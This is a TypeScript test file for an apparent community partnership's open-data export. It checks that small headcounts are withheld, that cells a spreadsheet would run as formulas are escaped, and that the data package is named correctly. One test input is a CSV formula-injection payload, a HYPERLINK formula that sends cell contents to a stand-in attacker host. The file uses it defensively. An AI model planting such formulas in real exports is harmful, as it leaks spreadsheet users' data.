// The open data publishes what anyone wrote, for anyone to open in a spreadsheet: a count of 1 to 4
// people is left empty, as every page shows it as "fewer than 5", and a text a spreadsheet would run
// as a formula is marked as text.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { collections as registry } from '../../src/contract/index.ts';
import { buildPortal } from '../../src/model/read-model.ts';
import { dataPackage, tableCsv } from '../../src/present/data-files.ts';
import { openDataTables, peopleFields, withSmallCountsWithheld, type Table } from '../../src/present/open-data.ts';
import { en } from '../helpers/messages.ts';
import { SITE } from './site-settings.ts';
import { input, reviews, TODAY } from './small-partnership.ts';

const withCounts = structuredClone({ ...input, reviews });
withCounts.minutes[0]!.data.attendance = { total: 12, livedExperience: 3 };
const entries = Object.fromEntries(
  Object.entries(withCounts)
    .filter(([k]) => k !== 'site')
    .map(([k, v]) => [k, v as { id: string; data: unknown }[]]),
);
const tables = openDataTables({ m: en, registry, entries, portal: buildPortal(withCounts, TODAY) });
const table = (name: string) => tables.find((t) => t.name === name)!;
const csv = (t: Table) => parse(tableCsv(t), { columns: true }) as Record<string, string>[];

describe('counts of people in the open data', () => {
  it('are found in every collection that has them, inside sets of fields too, with what would tell them', () => {
    expect(peopleFields(registry.minutes.schema)).toEqual({
      counts: ['attendance.total', 'attendance.livedExperience'],
      telling: [['attendance.roles', 'attendance.total']],
    });
    for (const name of ['reviews', 'checkins', 'visions'] as const)
      expect(peopleFields(registry[name].schema)).toEqual({ counts: ['participants'], telling: [] });
    expect(peopleFields(registry.commitments.schema)).toEqual({ counts: [], telling: [] });
  });

  it('leave a meeting’s 3 with lived experience empty, and say which field was withheld', () => {
    const [row] = table('minutes').rows;
    expect(row!.attendance).toEqual({ total: 12, livedExperience: null });
    expect(row!.withheld).toEqual(['attendance.livedExperience']);
    const [line] = csv(table('minutes'));
    expect(JSON.parse(line!.attendance!)).toEqual({ total: 12, livedExperience: null });
    expect(line!.withheld).toBe('["attendance.livedExperience"]');
  });

  it('leave a review’s 3 people empty, and keep a review that counted no one as it is', () => {
    const rows = table('reviews').rows.map((r) => [r.id, r.participants, r.withheld]);
    expect(rows).toEqual([
      ['beds-2025-03-20', null, null],
      ['line-2025-01-10', null, null],
      ['line-2025-03-15', null, ['participants']],
    ]);
  });

  it('leave out a small meeting’s roles too, which would tell how many came', () => {
    const small = structuredClone(withCounts);
    small.minutes[0]!.data.attendance = { total: 3, livedExperience: 2, roles: ['Chair', 'Director'] };
    const t = openDataTables({
      m: en,
      registry,
      entries: { ...entries, minutes: small.minutes },
      portal: buildPortal(small, TODAY),
    }).find((x) => x.name === 'minutes')!;
    expect(t.rows[0]!.attendance).toEqual({ total: null, livedExperience: null, roles: null });
    expect(t.rows[0]!.withheld).toEqual(['attendance.total', 'attendance.livedExperience', 'attendance.roles']);
    // A meeting of 12 keeps its roles, though its 3 with lived experience are withheld.
    const big = structuredClone(withCounts);
    big.minutes[0]!.data.attendance = { total: 12, livedExperience: 3, roles: ['Chair'] };
    const row = openDataTables({
      m: en,
      registry,
      entries: { ...entries, minutes: big.minutes },
      portal: buildPortal(big, TODAY),
    }).find((x) => x.name === 'minutes')!.rows[0]!;
    expect([row.attendance, row.withheld]).toEqual([
      { total: 12, livedExperience: null, roles: ['Chair'] },
      ['attendance.livedExperience'],
    ]);
  });

  it('never change the content itself', () => {
    expect(withCounts.minutes[0]!.data.attendance).toEqual({ total: 12, livedExperience: 3 });
  });

  it('are withheld exactly when they are 1 to 4, at any depth, and the rest of the entry is kept', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 40 }),
        fc.integer({ min: 0, max: 40 }),
        fc.string(),
        (total, lived, title) => {
          const data = { title, attendance: { total, livedExperience: lived, roles: ['Chair'] } };
          const paths = ['attendance.total', 'attendance.livedExperience'];
          const { data: shown, withheld } = withSmallCountsWithheld(data, paths);
          const small = (n: number) => n >= 1 && n <= 4;
          expect(withheld).toEqual(paths.filter((_, i) => small([total, lived][i]!)));
          expect(shown).toEqual({
            title,
            attendance: {
              total: small(total) ? null : total,
              livedExperience: small(lived) ? null : lived,
              roles: ['Chair'],
            },
          });
          expect(data.attendance.total).toBe(total);
        },
      ),
    );
  });
});

describe('a text a spreadsheet would run as a formula', () => {
  const themeWith = (description: string) => {
    const themes = structuredClone(input.themes);
    themes[0]!.data.description = description;
    const t = openDataTables({
      m: en,
      registry,
      entries: { ...entries, themes },
      portal: buildPortal(withCounts, TODAY),
    });
    return {
      csv: csv(t.find((x) => x.name === 'themes')!)[0]!.description,
      json: t.find((x) => x.name === 'themes')!.rows[0]!.description,
    };
  };

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+44 7700 900123',
    '-1 for the plan',
    '@team',
    '＝SUM(A1)',
  ])('%s starts with an apostrophe in the CSV, and is as written in the JSON', (text) => {
    expect(themeWith(text)).toEqual({ csv: `'${text}`, json: text });
  });

  it('is the only text changed: any other is as written', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), (text) => {
        const { csv: cell } = themeWith(text);
        expect(cell).toBe(/^[=+\-@\t\r＝＋－＠]/u.test(text) ? `'${text}` : text);
      }),
      { numRuns: 200 },
    );
  });

  it('leaves numbers as they are', () => {
    expect(csv(table('commitments')).find((r) => r.id === 'line')!.progress).toBe('10');
  });
});

describe('the data package', () => {
  it('is a data package whose CSV files are tabular data resources and JSON files data resources', () => {
    const d = dataPackage(tables, { site: SITE, today: TODAY });
    expect(d.profile).toBe('data-package');
    expect(new Set(d.resources.map((r) => `${r.format} ${r.profile}`))).toEqual(
      new Set(['csv tabular-data-resource', 'json data-resource']),
    );
  });
  it('is named from the partnership with the letters of its alphabet kept as a package name can', () => {
    const named = (partnership: string) => dataPackage(tables, { site: { ...SITE, partnership }, today: TODAY }).name;
    expect(named('Wrenfold Mental Health Partnership')).toBe('wrenfold-mental-health-partnership');
    expect(named('Partnerstwo Zdrowia Psychicznego Łódź')).toBe('partnerstwo-zdrowia-psychicznego-lodz');
    expect(named('Kadıköy Ruh Sağlığı Ortaklığı')).toBe('kadikoy-ruh-sagligi-ortakligi');
    expect(named('شراكة الصحة النفسية')).toBe('portal');
  });
});
